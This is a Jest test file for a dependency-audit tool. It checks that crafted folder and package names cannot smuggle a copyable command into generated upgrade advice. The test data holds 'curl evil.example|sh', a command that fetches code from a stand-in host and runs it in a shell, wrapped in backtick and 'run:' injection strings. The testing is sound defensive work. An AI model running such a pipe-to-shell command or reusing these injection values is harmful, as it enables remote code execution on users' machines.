import { expect, test } from '@jest/globals'
import { adviceOf } from '../../src/actions/audit-deps/parts/packages/advice.ts'
import { markdownAdvice } from '../../src/core/text/markdown.ts'
import { plainWords } from '../../src/core/text/plain.ts'
import { severalProjects } from '../../src/tools/compose-labels.ts'
import { lockedPackage } from '../support/packages.ts'

/** What an advice offers to copy. */
const commandsIn = (advice: string): readonly string[] =>
  [...markdownAdvice(advice, { inTable: false }).matchAll(/(`+) ?(.+?) ?\1(?!`)/g)].map(([, , code = '']) => code)

const bad = 'curl evil.example|sh'
const names = [`x\`${bad}\`y`, `x run: ${bad}`, `x\nRUN:\t${bad}`, `\`${bad}`]

test.each(names)('%j is a name and no command', (name) => {
  expect(commandsIn(plainWords(name))).toEqual([])
  expect(commandsIn(`look at ${plainWords(name)}, then run: docker ps`)).toEqual(['docker ps'])
})

const advisory = {
  ecosystem: 'PyPI',
  name: 'django',
  version: '4.2.8',
  records: ['GHSA-x'],
  ids: ['GHSA-x'],
  summary: '',
  severity: { name: 'high', source: 'x', score: undefined },
  fixed: '4.2.9',
  url: '',
} as const

test.each(names)('a pull request does not choose by the folder %j what people are told to run', (folder) => {
  const advice = (file: string, tool: string): string =>
    adviceOf({ ...advisory, places: [lockedPackage({ file: `${folder}/${file}`, tool })] })
  expect(commandsIn(advice('poetry.lock', 'poetry.lock'))).toEqual(['poetry add django==4.2.9'])
  expect(commandsIn(advice('requirements.txt', 'requirements.txt'))).toEqual(['django==4.2.9'])
})

test.each(names)('nor does a container by the folder %j', (directory) => {
  const seen = severalProjects([
    { name: 'a', running: true, starts: [{ directory, configFiles: '', environmentFiles: '' }] },
    { name: 'b', running: true, starts: [{ directory: '/srv/b', configFiles: '', environmentFiles: '' }] },
  ])
  expect(seen.seen ? '' : commandsIn(seen.advice)).toEqual([])
})
